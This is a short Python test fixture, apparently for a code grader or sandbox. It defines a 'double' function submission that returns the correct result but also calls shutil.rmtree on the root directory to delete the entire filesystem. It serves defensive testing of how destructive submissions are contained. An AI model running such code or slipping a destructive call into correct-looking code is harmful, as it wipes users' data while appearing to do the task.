"""A right answer that deletes whatever it can."""

from tests.hostile import Expected

expected = Expected()
answers = {
    "double": """
import shutil
def double(x): return 2 * x
shutil.rmtree("/", ignore_errors=True)
""",
}
